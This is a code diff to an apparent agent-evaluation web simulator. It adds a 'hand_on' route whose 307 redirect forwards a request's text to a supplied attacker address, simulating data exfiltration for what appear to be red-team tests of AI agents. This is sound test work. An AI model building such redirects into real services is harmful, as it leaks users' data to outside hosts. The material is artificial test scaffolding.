@@ -6,15 +6,15 @@ A script sends what it does as text to ``/api/step``, whose address says nothing
 from __future__ import annotations
 
 import re
-from urllib.parse import unquote, unquote_plus
+from urllib.parse import unquote, unquote_plus, urlencode
 
 from handrail.evals.applications.alder_state import AlderState
 from handrail.evals.applications.web_server import WebReply, WebRequest, page, redirect
 from handrail.evals.encodings import ENCODINGS, decode
 
 PAGES = (
-    "/banner", "/choices", "/drafts", "/embed", "/fields", "/files", "/huge", "/languages", "/links", "/lookup",
-    "/mail", "/parts", "/requests", "/spelled", "/tools", "/trolley", "/turning",
+    "/banner", "/choices", "/dragging", "/drafts", "/embed", "/fields", "/files", "/huge", "/languages", "/links",
+    "/lookup", "/mail", "/parts", "/requests", "/spelled", "/tools", "/trolley", "/turning",
 )  # fmt: skip
 """The addresses whose templates need nothing but the address."""
 
@@ -38,7 +38,7 @@ def answer_script(state: AlderState, request: WebRequest, attacker: str) -> WebR
     """Return the answer to a request for these parts; None for any other."""
     query = request.query
     if request.method not in ("GET", "HEAD", "OPTIONS"):
-        return _step(state, request)
+        return _step(state, request, attacker)
     match request.path.strip("/").split("/"):
         case ["worker.js"]:
             return WebReply(WORKER, kind="text/javascript")
@@ -66,11 +66,14 @@ def _deletes(request: WebRequest) -> bool:
     return any(_DELETES.search(unquote(unquote(text))) for text in said)
 
 
-def _step(state: AlderState, request: WebRequest) -> WebReply | None:
+def _step(state: AlderState, request: WebRequest, attacker: str) -> WebReply | None:
     """Record what a script or a link with a method does."""
     match request.path.strip("/").split("/"):
         case ["api", "step" | "search" | "sync" | "graphql"]:
             state.done.append(unquote_plus(request.body.decode("utf-8", "replace")))
+        case ["hand_on"]:
+            # With its method and body, to another site.
+            return WebReply(status=307, headers={"Location": f"{attacker}/?{urlencode({'d': request.query['text']})}"})
         case ["steps", *what]:
             state.done.append(f"{request.method} {' '.join(what)} {unquote_plus(request.body.decode())}")
         case _:
